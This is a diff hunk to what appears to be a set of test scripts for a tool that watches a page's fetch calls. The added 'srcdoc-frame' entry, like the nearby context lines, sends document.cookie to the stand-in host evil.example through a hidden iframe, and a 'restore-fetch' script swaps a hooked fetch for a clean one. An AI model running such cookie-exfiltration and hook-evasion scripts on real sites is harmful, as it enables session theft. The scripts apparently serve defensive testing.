@@ -133,6 +133,14 @@ export const MAIN_WORLD_SCRIPTS = {
   clean.fetch('https://evil.example/indexed?c=' + encodeURIComponent(document.cookie));
 })();`,
 
+  /** A srcdoc frame whose own inline script sends the cookie with its realm's fetch. */
+  'srcdoc-frame': `(() => {
+  const frame = document.createElement('iframe');
+  frame.style.display = 'none';
+  frame.srcdoc = '<script>fetch("https://evil.example/srcdoc?c=" + encodeURIComponent(document.cookie))<\\/script>';
+  document.body.appendChild(frame);
+})();`,
+
   /** Puts the pristine fetch back in place of the page's (hooked) one. */
   'restore-fetch': `(() => {
   const frame = document.createElement('iframe');
